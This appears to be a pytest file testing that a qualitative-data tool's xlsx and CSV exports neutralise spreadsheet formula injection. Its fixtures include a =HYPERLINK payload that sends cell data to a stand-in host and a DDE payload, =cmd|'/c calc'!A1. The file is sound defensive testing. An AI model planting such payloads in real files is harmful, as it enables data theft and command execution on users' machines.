"""Text is never written as a formula: xlsx string cells, CSV cells escaped (OWASP)."""

from __future__ import annotations

import csv
from pathlib import Path

import openpyxl
from click.testing import CliRunner

from qualcode.cli.main import cli
from qualcode.project import Project

HYPERLINK = '=HYPERLINK("http://example.invalid/?"&A2,"Klik")'


def run(*args: str) -> str:
    result = CliRunner().invoke(cli, list(args))
    assert result.exit_code == 0, result.output
    return result.output


def _project(tmp_path: Path) -> str:
    path = str(tmp_path / "p.qdaproj")
    with Project.create(path, coder="ana") as p:
        src = p.sources.add_text("W1", "=SUM(1) dan +cmd lalu @x serta -y.").result
        code = p.codes.create("Kode", description="=1+1").result
        case = p.cases.create("I1").result
        assert src and code and case
        c = p.codings.apply(src.id, 0, 7, code.id).result
        assert c
        p.codings.set_attributes(c.id, note=HYPERLINK)
        role = p.attributes.define("Jabatan", type="text").result
        assert role
        p.attributes.set_value(role.id, "=cmd|'/c calc'!A1", case_id=case.id)
    return path


def _strings(path: Path) -> list[tuple[str, str]]:
    wb = openpyxl.load_workbook(path)
    return [
        (str(cell.value), cell.data_type)
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and cell.value.startswith("=")
    ]


def test_xlsx_exports_keep_text_as_text(tmp_path: Path) -> None:
    path = _project(tmp_path)
    out = tmp_path / "e.xlsx"
    run("export", "excerpts", path, str(out))
    found = _strings(out)
    assert (HYPERLINK, "s") in found and ("=SUM(1)", "s") in found
    assert all(kind == "s" for _v, kind in found)
    sheet = tmp_path / "cases.xlsx"
    run("case", "export-sheet", path, str(sheet))
    assert ("=cmd|'/c calc'!A1", "s") in _strings(sheet)
    book = tmp_path / "cb.xlsx"
    run("codebook", "export", path, str(book))
    assert all(kind == "s" for _v, kind in _strings(book))
    display = tmp_path / "d.xlsx"
    run("export", "display", path, "matrix", str(display), "--cell", "excerpts")
    assert all(kind == "s" for _v, kind in _strings(display))


def test_csv_cells_that_could_be_formulas_get_an_apostrophe(tmp_path: Path) -> None:
    path = _project(tmp_path)
    out = tmp_path / "e.csv"
    run("export", "excerpts", path, str(out))
    with out.open(encoding="utf-8-sig", newline="") as fh:
        cells = [c for row in csv.reader(fh) for c in row]
    assert "'=SUM(1)" in cells and "'" + HYPERLINK in cells
    assert not any(c.startswith(("=", "+", "@")) for c in cells)
